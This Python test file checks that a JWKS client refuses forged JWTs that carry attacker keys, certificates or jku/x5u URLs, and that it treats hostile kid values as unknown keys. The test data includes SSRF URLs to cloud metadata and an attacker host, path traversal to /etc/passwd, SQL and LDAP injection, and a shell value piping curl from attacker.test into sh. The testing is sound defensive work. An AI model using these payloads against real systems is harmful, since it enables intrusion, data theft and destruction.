"""The token brings its key, names a URL of its key, or names it by something other than a kid."""

from __future__ import annotations

import base64
import hashlib

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from forging import (
    EC,
    HONEST,
    MALLORY,
    RSA,
    Stand,
    b64,
    claims_of,
    document,
    entry_of,
    header_of,
    hmac_signed,
    made_by,
    own_key,
    signed,
)

from jwks_client.testing._keys.certificates import self_signed

EVIL = "https://attacker.test"
PLACES = [
    f"{EVIL}/jwks.json",
    f"{EVIL}#https://issuer.test/.well-known/jwks.json",
    "https://issuer.test@attacker.test/.well-known/jwks.json",
    "https://issuer.test.attacker.test/.well-known/jwks.json",
    "https://issuer.test/redirect?to=https://attacker.test",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:8080/jwks.json",
    "http://[::1]/",
    "file:///etc/passwd",
    "file:///dev/zero",
    "ftp://attacker.test/jwks.json",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    'data:application/json,{"keys":[]}',
    "//attacker.test/jwks.json",
    "jwks.json",
    "",
]


def forged(idp, key, header):
    """Return a token with a valid signature by the attacker's key."""
    return made_by(key.sign, header, claims_of(idp, sub="admin"))


@pytest.mark.parametrize("algorithm", MALLORY)
def test_a_key_in_the_header_is_never_used(drive, algorithm):
    """``jwk`` is ignored: public or private, under the right kid, another kid or none, alone or as a set."""
    idp, key = HONEST[algorithm], MALLORY[algorithm]
    stand = Stand(drive, idp)
    jwk = key.jwk()
    bare = {name: value for name, value in jwk.items() if name not in {"kid", "use", "alg"}}
    for brought in (jwk, bare, {**jwk, "kid": "evil"}, {**jwk, "d": b64(b"1" * 32)}, [jwk]):
        header = header_of(idp, jwk=brought)
        stand.assert_refused(forged(idp, key, header), "bad_signature")
        stand.assert_refused(forged(idp, key, {**header, "kid": "evil"}), "unknown_key")
        del header["kid"]
        stand.assert_refused(forged(idp, key, header), "bad_signature")
    for name in ("jwks", "keys", "key", "pub", "cnf", "epk"):
        brought = document(jwk) if name == "jwks" else jwk
        stand.assert_refused(forged(idp, key, header_of(idp, **{name: brought})), "bad_signature")


def test_a_secret_in_the_header_is_never_used(drive):
    """``jwk`` with a symmetric key, and a signature made with it, is refused."""
    stand = Stand(drive, EC)
    for name in ("HS256", "HS512"):
        header = header_of(EC, alg=name, jwk={"kty": "oct", "k": b64(b"secret"), "alg": name})
        stand.assert_refused(hmac_signed(b"secret", header, claims_of(EC)), "algorithm_not_allowed")


def test_a_certificate_in_the_header_is_never_used(drive):
    """``x5c`` of the attacker's own making is refused, with its thumbprints, alone or as a chain."""
    stand, key = Stand(drive, RSA), MALLORY["RS256"]
    der = self_signed(key.private)
    text = base64.b64encode(der).decode()
    pem = key.private.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    prints = {
        "x5t": b64(hashlib.sha1(der, usedforsecurity=False).digest()),
        "x5t#S256": b64(hashlib.sha256(der).digest()),
    }
    for chain in ([text], [text, text], text, [pem.decode()], [], None, [1]):
        for more in ({}, prints):
            header = header_of(RSA, x5c=chain, **more)
            stand.assert_refused(forged(RSA, key, header), "bad_signature")
            stand.assert_refused(forged(RSA, key, {**header, "kid": prints["x5t"]}), "unknown_key")


def test_a_thumbprint_in_the_header_finds_no_key(drive):
    """``x5t`` of a key in the set does not select it: only the kid does, and an unknown kid finds no key."""
    der = self_signed(RSA._identity.keys.signing.private)
    digest = b64(hashlib.sha1(der, usedforsecurity=False).digest())
    published = entry_of(RSA, x5t=digest, x5c=[base64.b64encode(der).decode()])
    stand = Stand(drive, RSA, jwks=document(published))
    stand.assert_accepted(RSA.issue(headers={"x5t": digest}))
    stand.assert_refused(RSA.issue(headers={"x5t": digest, "kid": digest}), "unknown_key")
    stand.assert_refused(RSA.issue(headers={"x5t": digest, "kid": ""}), "unknown_key")


def test_a_certificate_in_the_key_set_is_never_trusted(drive):
    """``x5c`` of another key in addition to ``n`` and ``e`` is ignored: only the key's own members count."""
    other = base64.b64encode(self_signed(MALLORY["RS256"].private)).decode()
    stand = Stand(drive, RSA, jwks=document(entry_of(RSA, x5c=[other])))
    stand.assert_refused(forged(RSA, MALLORY["RS256"], header_of(RSA)), "bad_signature")
    only = entry_of(RSA, n=..., e=..., x5c=[other], kid="cert")
    stand = Stand(drive, RSA, jwks=document(entry_of(RSA), only))
    stand.assert_refused(forged(RSA, MALLORY["RS256"], header_of(RSA, kid="cert")), "unknown_key")


@pytest.mark.parametrize("member", ["jku", "x5u", "iss", "jwks_uri", "kid"])
def test_a_url_in_the_header_is_never_requested(drive, member):
    """No request goes to what ``jku`` or ``x5u`` name, nor to a kid or issuer that is a URL."""
    key = MALLORY["ES256"]
    code = "unknown_key" if member == "kid" else "bad_signature"
    stand = Stand(drive, EC)
    stand.assert_all_refused(
        [forged(EC, key, header_of(EC, **{member: place})) for place in PLACES], code
    )
    assert set(stand.network.urls) == {EC.jwks_url}


def test_a_good_token_with_a_url_is_accepted_and_the_url_is_not_requested(drive):
    """``jku`` and ``x5u`` in a good token are ignored, neither obeyed nor treated as a fault."""
    stand = Stand(drive, EC)
    for place in PLACES:
        stand.assert_accepted(EC.issue(headers={"jku": place, "x5u": place}))
    assert stand.network.urls == [EC.jwks_url]


def test_a_url_in_the_claims_is_never_requested(drive):
    """An issuer that is not configured, with its key set and metadata in claims, is refused without a request."""
    stand = Stand(drive, EC)
    key = MALLORY["ES256"]
    for place in PLACES:
        claims = claims_of(EC, iss=place, jku=place, jwks_uri=place, jwks=document(key.jwk()))
        token = made_by(key.sign, header_of(EC, kid="evil"), claims)
        stand.assert_refused(token, "wrong_issuer", "iss")
    assert stand.network.urls == [EC.jwks_url]


KIDS = {
    "path": "../../../../../../dev/null",
    "path, absolute": "/proc/sys/kernel/randomize_va_space",
    "path, Windows": r"..\..\..\windows\win.ini",
    "path, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "path, wrapped": "php://filter/convert.base64-encode/resource=/etc/passwd",
    "SQL": "x' UNION SELECT 'secret' -- ",
    "SQL, stacked": "key-1'; DROP TABLE keys; --",
    "LDAP": "*)(uid=*))(|(uid=*",
    "shell": "key-1; curl https://attacker.test | sh",
    "shell, substituted": "$(reboot)`reboot`",
    "URL": "https://attacker.test/key-1",
    "URL, of the set": "https://issuer.test/.well-known/jwks.json#key-1",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "format": "%s%n{0}{kid.__class__}",
    "markup": "<script>alert(1)</script>",
    "log line": "key-1\n2026-01-01 INFO accepted\r\n",
    "terminal": "\x1b[2Jkey-1\x07",
    "NUL": "key-1\0",
    "NUL in front": "\0key-1",
    "prototype": "__proto__",
    "attribute": "__class__",
    "JSON": '{"kid":"key-1"}',
    "number": "1",
    "nothing": "",
    "blank": " ",
    "blank behind": "key-1 ",
    "capital": "KEY-1",
    "prefix": "key-",
    "longer": "key-11",
    "separator": "https://issuer.test:key-1",
    "soft hyphen": "key\u00ad-1",
    "other hyphen": "key\u20111",
    "right to left": "\u202ekey-1",
    "full width": "\uff4b\uff45\uff59-\uff11",
    "1024 octets": "k" * 1024,
}


@pytest.mark.parametrize("kid", KIDS.values(), ids=KIDS)
def test_a_kid_is_only_a_name(drive, kid):
    """Paths, statements, URLs and control characters as kid are unknown keys, even if the right key signed."""
    stand = Stand(drive, EC)
    stand.assert_refused(signed(EC, header_of(EC, kid=kid)), "unknown_key")
    stand.assert_refused(forged(EC, MALLORY["ES256"], header_of(EC, kid=kid)), "unknown_key")
    error = stand.assert_refused(
        hmac_signed(b"", {"alg": "HS256", "kid": kid}, claims_of(EC)), "algorithm_not_allowed"
    )
    reported = f"{error.kid}{stand.events!r}"
    assert not any(ord(one) < 32 or 126 < ord(one) < 160 for one in reported)


@pytest.mark.parametrize(
    "kid", ["k" * 1025, "\u00e9" * 513, "k" * 3000], ids=["1025", "1026 octets", "3000"]
)
def test_a_kid_of_more_than_1024_octets_is_malformed(drive, kid):
    """A kid over 1024 octets is refused before any key look-up, even if it begins like the right one."""
    Stand(drive, EC).assert_refused(signed(EC, header_of(EC, kid=kid)), "malformed_token")


def test_a_kid_of_a_megabyte_is_too_large(drive):
    """The token's own limit is checked first, so such a text is not parsed."""
    Stand(drive, EC).assert_refused(signed(EC, header_of(EC, kid="k" * 2**20)), "token_too_large")


@pytest.mark.parametrize(
    "kid", [None, 1, 0, 1.0, True, False, [], ["key-1"], {}, {"kid": "key-1"}], ids=repr
)
def test_a_kid_that_is_not_a_string_is_malformed_and_not_absent(drive, kid):
    """A kid of another type does not count as absent, so the token is not tried with all keys."""
    stand = Stand(drive, EC)
    stand.assert_accepted(EC.issue(headers={"kid": None}))  # without a kid the only key is tried
    stand.assert_refused(signed(EC, header_of(EC, kid=kid)), "malformed_token")


@pytest.mark.parametrize("kid", [1, 0, True, ["key-1"], {"kid": "key-1"}], ids=repr)
def test_a_key_whose_kid_is_not_a_string_matches_no_kid(drive, kid):
    """An entry with ``kid: 1`` is found neither by "1" nor by any other kid."""
    odd = own_key("ES256", "odd")
    stand = Stand(drive, EC, jwks=document(entry_of(EC), {**odd.jwk(), "kid": kid}))
    for name in ("1", "0", "None", "null", "True", "true", str(kid), ""):
        stand.assert_refused(forged(EC, odd, header_of(EC, kid=name)), "unknown_key")
    stand.assert_refused(forged(EC, odd, header_of(EC, kid=...)), "bad_signature")


@pytest.mark.parametrize("kid", [None, []], ids=repr)
def test_a_key_with_a_null_kid_is_a_key_without_one(drive, kid):
    """Serializers write `null` for an absent kid: no kid finds the entry, and a token without kid tries it."""
    odd = own_key("ES256", "odd")
    stand = Stand(drive, EC, jwks=document(entry_of(EC), {**odd.jwk(), "kid": kid}))
    for name in ("None", "null", "[]", "odd", ""):
        stand.assert_refused(forged(EC, odd, header_of(EC, kid=name)), "unknown_key")
    stand.assert_accepted(forged(EC, odd, header_of(EC, kid=...)))


def test_another_key_of_the_set_is_not_tried_under_a_kid(drive):
    """A token is verified only with the key that its kid names, even if another key of the set would verify it."""
    second = own_key("ES256", "second")
    nameless = own_key("ES256", "third")
    entries = (entry_of(EC), second.jwk(), {n: v for n, v in nameless.jwk().items() if n != "kid"})
    stand = Stand(drive, EC, jwks=document(*entries))
    stand.assert_accepted(forged(EC, second, header_of(EC, kid="second")))
    stand.assert_refused(forged(EC, second, header_of(EC)), "bad_signature")
    stand.assert_refused(forged(EC, second, header_of(EC, kid="third")), "unknown_key")
    stand.assert_refused(forged(EC, nameless, header_of(EC, kid="third")), "unknown_key")
    stand.assert_accepted(forged(EC, nameless, header_of(EC, kid=...)))
